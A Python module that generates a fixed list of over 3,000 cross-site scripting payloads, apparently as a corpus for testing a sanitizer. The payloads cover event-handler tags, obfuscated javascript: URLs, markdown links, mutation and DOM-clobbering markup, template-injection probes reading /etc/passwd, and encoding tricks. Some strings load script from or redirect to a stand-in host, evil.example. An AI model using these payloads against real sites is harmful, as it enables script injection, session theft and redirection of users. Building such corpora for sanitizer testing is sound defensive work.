"""Texts that try to become scripts: tags, events, schemes, encodings, nesting, mutation, clobbering, templates.

`payloads()` gives over 3,000 different ones, always the same, each on its own able to run or to break a page that lets it through.
"""

from itertools import product

TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "marquee", "input autofocus", "select autofocus",
        "textarea autofocus", "button autofocus", "form", "object data=x", "embed src=x", "a href=x tabindex=0 autofocus", "div contenteditable",
        "p", "math", "style", "link rel=stylesheet href=x", "video><source", "svg><animate attributeName=x dur=1s", "svg><image href=x",
        "frameset", "x tabindex=1 autofocus", "image src=x", "picture><img src=x", "dialog open", "isindex type=image src=x")
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onstart", "onbegin", "onmouseover", "onclick", "onpointerenter", "onanimationstart",
          "ontransitionend", "onfocusin", "onscroll", "onwheel", "onblur", "onbeforeinput", "onpageshow", "onhashchange", "oncanplay", "onloadstart")
WAYS = ("<{tag} {event}=alert(1)>", "<{tag}/{event}=\"alert(1)\"/", "<{tag}\n{event} = 'alert(1)'>x", "<{tag} x=\">\" {event}=alert`1`//")

SCRIPTS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
           "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
           "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)", "javascript%3Aalert(1)",
           "javascript://tayninh.example/%0aalert(1)", "javascript:/*--></title>*/alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
           "blob:https://evil.example/1", "filesystem:https://evil.example/x", "view-source:javascript:alert(1)", "//evil.example/x", "\\\\evil.example\\x",
           "/\\evil.example/x", "https:evil.example", "https://tayninh.example@evil.example/", "feed:javascript:alert(1)", "jar:javascript:alert(1)")
HOLDERS = ('<a href="{url}">x</a>', "<iframe src='{url}'></iframe>", '<form action="{url}"><input type=submit>', "<button formaction={url}>x</button>",
           '<object data="{url}">', '<embed src="{url}">', '<svg><a xlink:href="{url}"><text>x</text></a></svg>', '<math href="{url}">x</math>',
           '<meta http-equiv="refresh" content="0;url={url}">', '<base href="{url}">', '<link rel="stylesheet" href="{url}">', '<img src="{url}">',
           '<area href="{url}">', '<svg><use href="{url}">', '<svg><animate attributeName=href values="{url}">', '<video poster="{url}">', "<a href={url} ping={url}>x")
MARKDOWN = ("[x]({url})", "[x](<{url}>)", '[x]({url} "t")', "<{url}>", "![x]({url})", "[x][a]\n\n[a]: {url}", "[x][a]\n\n[a]: <{url}> \"onclick=alert(1)\"",
            "[^1]\n\n[^1]: [x]({url})", "| a |\n|---|\n| [x]({url}) |", "[![x]({url})]({url})", "[<img src=x onerror=alert(1)>]({url})", "> [x]({url})",
            "[x](https://a.vn){{: href={url} onclick=alert(1)}}", "[[{url}]]")

CLOSERS = ("</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</article></main></body>", '"', "'", '">', "'>", '"/>', "</noscript>", "</template>",
           "</iframe>", "</xmp>", "</svg>", "</math>", "\\\"", "`", "</h1></header>", "</li></ul>", "</td></tr></table>", "*/", "?>")
OPENERS = ("<script>alert(1)</script>", "<script src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<textarea>", "<plaintext>", "<style>*{display:none}",
           "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=x>",
           "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<!--", "<![CDATA[", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title>", "<xmp>")

MUTATIONS = ("<math><mtext><table><mglyph><style><!--</style>{x}", "<svg><style><img src='</style>{x}'>", "<noscript><style></noscript>{x}", "<listing>&lt;{x}</listing>",
             "<form><math><mtext></form><form><mglyph><style></math>{x}", "<svg></p><style><a id='</style>{x}'>", "<math><annotation-xml encoding='text/html'>{x}",
             "<svg><foreignObject>{x}", "<svg><desc>{x}", "<svg><title>{x}", "<table><td><svg><desc><td>{x}", "<select><template>{x}", "<xmp><p title='</xmp>{x}'>",
             "<template><s>{x}</template>", "<noembed>{x}</noembed>", "<noframes>{x}</noframes>", "<a><table><a>{x}", "<p><svg><p>{x}", "<b><plaintext>{x}",
             "<svg><![CDATA[><{x}]]>", "<!-- --!>{x}", "<!--><{x}-->", "<![if IE]>{x}<![endif]>", "<?xml-stylesheet href='javascript:alert(1)'?>{x}", "<!DOCTYPE x [<!ENTITY x '{x}'>]>&x;")

CLOBBERED = ("getElementById", "body", "cookie", "forms", "children", "attributes", "noi-dung", "nguon-tin", "cac-don-vi", "__proto__", "constructor", "defaultView")
CLOBBERS = ("<a id={name}><a id={name} name=x href=//evil.example>", "<img name={name}>", "<form id={name}><input name=attributes>", "<iframe name={name} src=//evil.example>",
            "<object id={name}>", "## x {{#{name}}}", "## {name}", "[^{name}]: x\n\n[^{name}]", "<input form=x name={name}>", "<map name={name}><area href=//evil.example>")

BASES = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "\" onmouseover=alert(1) x=\"",
         "' autofocus onfocus=alert(1) '", "<iframe src=javascript:alert(1)>", "</script><script>alert(1)</script>", "</title><svg/onload=alert(1)>",
         "<body onload=alert(1)>", "<style>@import'//evil.example'</style>", "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x")

TEMPLATES = ("{{ 7*7 }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% for x in y %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}",
             "[[${alert(1)}]]", "{static}../../x", "{attach}/etc/passwd", "|filename|x.md", "<xsl:script>alert(1)</xsl:script>", "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
             "</script><!--<script>", "\\u003c/script\\u003e<script>alert(1)</script>", "\",\"@type\":\"x\"}</script><script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
             "x\" /><link rel=\"import\" href=\"//evil.example", "x: alert(1)\n---\n<script>alert(1)</script>", "BEGIN:VEVENT\nATTACH:javascript:alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    found = [way.format(tag=tag, event=event) for tag, event in product(TAGS, EVENTS) for way in WAYS]
    found += [holder.format(url=url) for holder, url in product((*HOLDERS, *MARKDOWN), SCRIPTS)]
    found += [closer + opener for closer, opener in product(("", *CLOSERS), OPENERS)]
    found += [mutation.replace("{x}", opener) for mutation, opener in product(MUTATIONS, OPENERS[:8])]
    found += [clobber.format(name=name) for clobber, name in product(CLOBBERS, CLOBBERED)]
    found += [encoded for base in BASES for encoded in encodings(base)]
    return list(dict.fromkeys([*found, *TEMPLATES]))


def encodings(text: str) -> list[str]:
    """The text as people write it who hope that somebody decodes it once too often."""
    return [
        "".join(f"&#{ord(char)};" for char in text), "".join(f"&#x{ord(char):x};" for char in text), "".join(f"&#{ord(char):07}" for char in text),
        "".join(f"%{ord(char):02x}" for char in text), "".join(f"%25{ord(char):02x}" for char in text), "".join(f"\\u{ord(char):04x}" for char in text),
        text.replace("<", "&lt;").replace(">", "&gt;"), text.replace("<", "&amp;lt;"), text.replace("<", "＜").replace(">", "＞"), text.replace("<", "‹").replace("'", "ʼ"),
        text.replace("<", "\\<"), text.replace("<", "<<"), text.replace("<", "<\x00"), text.replace("<", "< "), text.swapcase(), f"`{text}`", f"```\n{text}\n```", f"    {text}",
        text.replace("script", "scr<script>ipt"), text.replace(" ", "/"), text.replace(" ", "\f"), f"<{text}>", f"[{text}]({text})", f"| {text} |\n|---|\n| {text} |", f"![{text}](x.png \"{text}\")",
    ]
